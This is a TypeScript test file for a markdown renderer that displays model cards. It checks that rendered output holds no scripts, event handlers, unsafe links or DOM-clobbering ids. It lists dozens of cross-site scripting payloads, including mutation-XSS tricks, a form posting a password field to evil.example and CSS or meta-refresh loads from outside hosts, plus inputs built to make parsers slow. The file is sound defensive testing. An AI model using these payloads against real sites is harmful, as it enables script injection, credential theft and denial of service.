import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, it } from 'vitest';
import { MAX_MARKDOWN_CHARACTERS, renderMarkdown } from './render-markdown.ts';
import { schema } from './schema.ts';

const place = {
  directory: '',
  hubPath: 'ada/tiny',
  pageOf: (path: string) => `/ada/tiny/blob/main/${encodeURIComponent(path)}`,
  contentOf: (path: string) => `/ada/tiny/resolve/main/${encodeURIComponent(path)}`,
};

/** Names what a browser would run, fetch from elsewhere or take for the page's own, in the HTML as a browser reads it. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const allowed = new Set([...(schema.tagNames ?? []), 'input']);
  const visit = (node: Root | Element): void => {
    for (const child of node.children) {
      if (child.type === 'comment') found.push('comment');
      if (child.type !== 'element') continue;
      if (!allowed.has(child.tagName)) found.push(`<${child.tagName}>`);
      for (const [name, value] of Object.entries(child.properties)) {
        const text = String(value);
        if (/^on|^style$|^srcdoc$|^action$|^formAction$|^srcSet$|^background$/i.test(name)) found.push(name);
        if (name === 'href' && !/^(#|\/(?![/\\])|https?:\/\/|mailto:)/.test(text)) found.push(`href=${text}`);
        if (['src', 'poster'].includes(name) && !/^(\/(?![/\\])|data:image\/(png|jpeg|gif|webp|avif);)/.test(text)) {
          found.push(`${name}=${text}`);
        }
        if (['id', 'name', 'ariaDescribedBy', 'ariaLabelledBy'].includes(name) && !text.startsWith('card-')) {
          found.push(`${name}=${text}`);
        }
      }
      visit(child);
    }
  };
  visit(fromHtml(html, { fragment: true }));
  return found;
}

it('sees the dangers it looks for', () => {
  const page = '<script></script><p onclick="x" id="main"><a href="javascript:x"></a><img src="https://evil.example">';
  expect(dangers(page)).toEqual(['<script>', 'onClick', 'id=main', 'href=javascript:x', 'src=https://evil.example']);
});

describe('nothing of a hostile card runs, loads or poses', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnError = alert(1) //',
    '<img/src=x/onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    '<style>@import "https://evil.example";body{display:none}</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <a href="javascript:alert(1)">z</a>',
    '<a href="java\tscript:alert(1)">x</a><a href=" &#x6A;avascript:alert(1)">y</a><a href="&#1;javascript:alert(1)">z</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">y</a><a href="blob:x">z</a>',
    '<javascript:alert(1)>\n\n[x]: javascript:alert(1)\n\n[x]',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
    '<img srcset="https://evil.example 2x" src=x><picture><source srcset="https://evil.example"><img src="//evil.example"></picture>',
    '<video src="https://evil.example" poster="https://evil.example"><source src="https://evil.example"></video><audio src=//evil.example>',
    '<table background="https://evil.example"><tr><td background="https://evil.example">x</table>',
    '<input type="image" src="https://evil.example"><input type="password" autofocus onfocus=alert(1)>',
    '<div id="main" name="announcer" class="visually-hidden" data-island="snippet-tabs" data-copy="x">x</div>',
    '<a id="document" name="getElementById">x</a><p aria-labelledby="main">x</p>',
    '<dialog open>x</dialog><details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>x</marquee>',
    '<body onload=alert(1)><html onclick=x><head><title>x</title></head>',
    '</div></main></body></html><script>alert(1)</script>',
    '<!--><script>alert(1)</script>--><!-- a --!><img src=x onerror=alert(1)>',
    '<![CDATA[<script>alert(1)</script>]]><?php alert(1) ?><!DOCTYPE html>',
    '<textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp><plaintext><script>',
    '```"><script>alert(1)</script>\ncode\n```',
    '~~~js" onload="alert(1)\ncode\n~~~',
    '![x](x "onerror=alert(1)") ![" onerror="alert(1)](x.png)',
    '[a](<javascript:alert(1)>) [b](/\\\\evil.example) ![c](\\\\evil.example/x.png)',
    '<a href="https://evil.example" target="_blank" ping="https://evil.example" download>x</a>',
    '| <img src=x onerror=alert(1)> | a |\n|-|-|\n| <script>alert(1)</script> | [x](javascript:x) |',
    '[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>',
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    '> [!NOTE]<img src=x onerror=alert(1)>\n> - [x] <script>alert(1)</script>',
    '# <img src=x onerror=alert(1)> {#id onclick=x}',
    '\u0000<scr\u0000ipt>alert(1)</script> \uD800<img src=\uDFFF onerror=x>',
  ])('%s', (card) => {
    expect(dangers(renderMarkdown(card, place).html)).toEqual([]);
  });
});

describe('a card made to be slow', () => {
  const repeat = (text: string): string => text.repeat(Math.ceil(MAX_MARKDOWN_CHARACTERS / text.length));

  /* Parsers of this language often need quadratic time; micromark took minutes for some of these. */
  it.each([
    '[',
    '![',
    '*a_ ',
    'a`` ',
    '>',
    '<a ',
    '[a](',
    '**',
    '[^',
    '~~a ',
    '<!--',
    'http://',
    '<b><p>',
    '- > ',
    '|a',
    '[\n',
  ])('of %j takes no more than seconds on a busy machine', (part) => {
    const start = performance.now();
    renderMarkdown(repeat(part), place);
    expect(performance.now() - start).toBeLessThan(6000);
  });

  it('of wide tables answers in bounded size', () => {
    const table = `${'|a'.repeat(2000)}\n${'|-'.repeat(2000)}\n${'|b\n'.repeat(30_000)}`;
    expect(renderMarkdown(table, place).html.length).toBeLessThan(8_000_000);
  });
});
